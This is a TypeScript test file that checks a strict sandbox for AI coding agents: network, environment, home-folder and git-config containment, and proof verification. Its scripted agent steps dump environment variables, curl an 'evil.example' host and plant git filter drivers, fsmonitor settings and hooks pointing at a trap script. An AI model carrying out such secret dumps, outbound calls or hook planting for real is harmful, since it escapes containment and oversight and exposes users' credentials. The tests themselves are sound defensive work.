import { execFileSync } from 'node:child_process';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { openProof, verifyProof } from '../../../src/core/acts/proof/verify-proof.act.ts';
import { ifExists } from '../../../src/core/kernel/errors.ts';
import { iterationPaths } from '../../../src/core/session/layout/paths.ts';
import { ci } from '../../support/ci.ts';
import { eventsOfType, noticesOf } from '../../support/events-of.ts';
import { eventually } from '../../support/eventually.ts';
import { shell } from '../../support/scenario-rules.ts';
import { startRig } from '../../support/session-rig.ts';
import { first } from './guarded-row.ts';

/** The user's own proxy and database, on this machine. */
async function machine() {
  const server = http.createServer((request, response) => response.end(`answer to ${request.url}`));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { port, [Symbol.asyncDispose]: async () => void server.close() };
}

test(
  'a strict session goes to done: set-up, agents and checks reach what is named and nothing else, and the proof is verified in the same way',
  ci,
  async () => {
    await using own = await machine();
    const asks = `curl -sf http://127.0.0.1:${own.port}/`;
    await using rig = await startRig({
      sandbox: 'strict',
      lines: {
        SANDBOX_PORTS: `${own.port}`,
        SANDBOX_ENV: 'WANTED',
        SETUP: `(curl -s http://setup.example/ || true) && ${asks}setup && mkdir -p "$HOME/.npm" && echo set-up >>"$HOME/.npm/kept"`,
        CHECK: `${asks}check && test -z "$DEPLOY_TOKEN" && test "$(wc -l <"$HOME/.npm/kept")" = 1`,
      },
      firstEnv: { DEPLOY_TOKEN: 'secret', WANTED: 'yes' },
      scenario: {
        rules: first(
          shell(
            'cat "$HOME/.npm/kept" >"$REHEARSAL_SESSION_DIR/found"; env >"$REHEARSAL_SESSION_DIR/env"; ls -A "$HOME" >>"$REHEARSAL_SESSION_DIR/found"; curl -s http://evil.example/x || true; : >"$HOME/planted"',
          ),
          { act: 'normal' },
        ),
      },
    });
    await rig.untilWaiting('qa_answers');
    const found = await readFile(join(rig.paths.sessionDir, 'found'), 'utf8');
    expect(found).toContain('set-up');
    expect(found).not.toContain('planted');
    const env = await readFile(join(rig.paths.sessionDir, 'env'), 'utf8');
    expect(env).toMatch(/^WANTED=yes$/m);
    expect(env).not.toContain('DEPLOY_TOKEN');
    const refused =
      'The sandbox refused connections of iteration 1: evil.example:80 is not in SANDBOX_HOSTS.';
    const ofSetup =
      'The sandbox refused connections of SETUP, checks or other programs of the project: setup.example:80 is not in SANDBOX_HOSTS.';
    expect((await noticesOf(rig, 'network_refused')).map(({ text }) => text)).toEqual([refused, ofSetup]);
    await rig.answer();
    await rig.untilWaiting('plan_approval');
    const prompts = join(rig.paths.runDir, 'iterations/002');
    expect(await readFile(join(prompts, 'prompt.md'), 'utf8')).toContain(refused);
    await rig.approve();
    await rig.until(({ status }) => status.kind === 'done');
    const ran = await eventsOfType(rig, 'checks_ran');
    expect(ran.length).toBeGreaterThan(0);
    for (const { runs, sandbox } of ran)
      expect([sandbox, runs.map(({ how }) => how)]).toEqual(['strict', runs.map(() => undefined)]);
    const context = rig.context();
    const opened = await openProof({ of: rig.file.folder }, context);
    const verified = await verifyProof(opened, context, { signal: new AbortController().signal });
    expect(verified).toMatchObject({ sandbox: 'strict', differences: [] });
    // Nothing of it stays but the caches.
    await eventually(
      async () =>
        ((await ifExists(readdir(join(rig.file.worktreesDir, '.sandbox')))) ?? []).join() === '.caches',
      { what: 'the folders of the sandbox to go' },
    );
  },
);

test('git settings and hooks that an agent of the strict sandbox plants reach no program of ours, and no question is asked', async () => {
  const trap = '$REHEARSAL_SESSION_DIR/trap';
  const plants = [
    `printf '#!/bin/sh\\n[ -n "$SAMOCODE_SESSION" ] || touch "$0.ran"\\ncat\\n' >"${trap}"; chmod 755 "${trap}"`,
    'c="$(git rev-parse --path-format=absolute --git-common-dir)"; mkdir -p "$c/hooks" "$c/info"',
    ...['filter.evil.clean', 'filter.evil.smudge', 'core.fsmonitor'].map(
      (key) => `git config ${key} "${trap}"`,
    ),
    'echo "* filter=evil" | tee "$c/info/attributes" .gitattributes',
    `for hook in post-checkout reference-transaction; do cp "${trap}" "$c/hooks/$hook"; done`,
  ];
  await using rig = await startRig({
    sandbox: 'strict',
    scenario: { rules: first(shell(plants.join('; ')), { act: 'normal' }) },
  });
  await rig.untilWaiting('qa_answers');
  expect(await readdir(rig.paths.sessionDir)).toContain('trap');
  // A person who configures a program of their own is asked nothing, either.
  await rig.repo.git(['config', 'core.editor', 'nano']);
  await rig.answer();
  await rig.untilWaiting('plan_approval');
  expect(await readdir(rig.paths.sessionDir)).not.toContain('trap.ran');
  execFileSync(join(rig.paths.sessionDir, 'trap'), { input: '' });
  expect(await readdir(rig.paths.sessionDir)).toContain('trap.ran');
  expect(await rig.repo.git(['config', '--list'])).not.toContain('evil');
  expect(await readdir(join(rig.repo.path, '.git/hooks')).catch(() => [])).not.toContain('post-checkout');
});

test.each([
  ['is not compared', {}, false],
  ['is compared if SANDBOX_SOCKETS opens a service', { SANDBOX_SOCKETS: 'gpg-agent' }, true],
  ['is compared if SANDBOX_WRITE opens a path', { SANDBOX_WRITE: '~/planted' }, true],
] as const)(
  'the run folder of an agent in the strict sandbox %s, and so are the programs of git',
  async (_, lines, isCompared) => {
    await using rig = await startRig({ sandbox: 'strict', lines });
    await rig.untilWaiting('qa_answers');
    const before = JSON.parse(await readFile(iterationPaths(rig.paths, 1).before, 'utf8'));
    expect([before.documents !== '', before.runFolder !== undefined]).toEqual([true, isCompared]);
    expect((await readdir(rig.paths.runDir)).includes('git-settings.json')).toBe(isCompared);
  },
);

test('an agent in the strict sandbox outlives its worker, and its connections wait for the next one', async () => {
  await using own = await machine();
  const asks = `curl -sf --retry-connrefused http://127.0.0.1:${own.port}/`;
  await using rig = await startRig({
    sandbox: 'strict',
    lines: { SANDBOX_PORTS: `${own.port}` },
    scenario: {
      rules: first(
        shell(
          `${asks}before >"$REHEARSAL_SESSION_DIR/before"; until [ -e "$REHEARSAL_SESSION_DIR/go" ]; do sleep 0.05; done; ${asks}after >"$REHEARSAL_SESSION_DIR/after"`,
        ),
        { act: 'normal' },
      ),
    },
  });
  const text = (name: string) => ifExists(readFile(join(rig.paths.sessionDir, name), 'utf8'));
  await eventually(async () => (await text('before')) === 'answer to /before', { what: 'the agent' });
  await rig.killWorker();
  await writeFile(join(rig.paths.sessionDir, 'go'), '');
  await rig.launch();
  await rig.untilWaiting('qa_answers');
  expect(await text('after')).toBe('answer to /after');
  const [ended] = await eventsOfType(rig, 'iteration_ended');
  expect(ended).toMatchObject({ iteration: 1, ending: 'signalled' });
});
